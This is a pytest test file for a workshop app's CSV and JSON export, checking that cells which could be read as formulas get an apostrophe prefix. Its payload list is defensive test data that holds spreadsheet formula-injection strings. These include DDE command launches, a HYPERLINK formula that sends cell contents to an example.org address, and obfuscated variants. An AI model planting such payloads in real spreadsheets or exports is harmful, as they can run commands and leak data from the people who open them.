"""A sheet that leaves Allround runs nothing in a spreadsheet, and loses no letter."""

import csv
import io
import json

import pytest

from app.rounds.rules import sheets

SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "|", "%"]
PAYLOADS = [
    "=cmd()", "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?x="&A1,"click")', "=IMPORTXML(A1)",
    "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@import",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "  =1+1", " \t=1+1", "\u00a0=1+1", "\u2003=1+1", "\x00=1+1",
    "\x0b=1+1", "\x0c=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "|cmd", "%0A=1+1", '="a"', "='a'", "=A1;B1", "=A1,B1",
    "+44 1632 960000", "- a list item", "-- ", "@everybody", "=", "+", "-", "@", "=‮cmd", "=😀", "\ufeff=1+1",
]
HARMLESS = ["a room", "1 + 1", "a=b", "pain @ night", "'quoted'", "5 %", "", "😀", "שלום", "<script>", 'she said "yes"']


def export(text, **more):
    idea = {
        "key": "c1", "headline": text[:90], "text": text, "agenda_item_key": "i1", "agenda_item": "1-2-4-All",
        "structure": "1-2-4-All", "step": "Fours", "group": "Group 1", "by": "", "chosen": True, "put_forward_at": None,
        "goes_on": True, "put_together_from": [], "grew_from": [{"step": "Alone", "group": "", "text": None, "dots": 1}],
        "votes": [], "board_key": None, **more,
    }
    return {"ideas": [idea], "kept": [{"agenda_item_key": "i1", "agenda_item": "1-2-4-All", "how_many": 3}]}


def read(sheet):
    return list(csv.DictReader(io.StringIO(sheet.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_a_text_that_could_be_a_formula_begins_with_an_apostrophe(payload):
    assert len(PAYLOADS) >= 40
    row = read(sheets.as_csv(export(payload)))[0]
    assert row["text"] == "'" + payload.replace("\x00", "")
    for cell in row.values():
        assert not cell.startswith(tuple(SIGNS))
        assert not cell.lstrip("\ufeff \t").startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_as_it_is(text):
    assert read(sheets.as_csv(export(text)))[0]["text"] == text


@pytest.mark.parametrize("text", PAYLOADS + HARMLESS, ids=ascii)
def test_json_keeps_every_letter(text):
    read_back = json.loads(sheets.as_json(export(text)))
    assert read_back["ideas"][0]["text"] == text
    assert (read_back["schema"], read_back["version"]) == ("allround-workshop", 1)


def test_the_sheet_tells_spreadsheets_that_it_is_utf_8():
    assert sheets.as_csv(export("Cwestiwn ŵ")).startswith(b"\xef\xbb\xbf")


def test_lines_and_quotes_stay_inside_their_cell():
    text = 'one\ntwo, "three"\r\nfour'
    rows = read(sheets.as_csv(export(text)))
    assert len(rows) == 1 and rows[0]["text"] == text


def test_the_number_kept_stands_once_for_each_item():
    both = export("One")
    both["ideas"].append(dict(both["ideas"][0], key="c2"))
    assert [row["kept_in_this_item"] for row in read(sheets.as_csv(both))] == ["3", ""]


def test_an_item_that_gave_nothing_still_says_how_many_were_kept():
    nothing = {**export("One"), "ideas": []}
    rows = read(sheets.as_csv(nothing))
    assert [(row["agenda_item"], row["kept_in_this_item"]) for row in rows] == [("1-2-4-All", "3")]
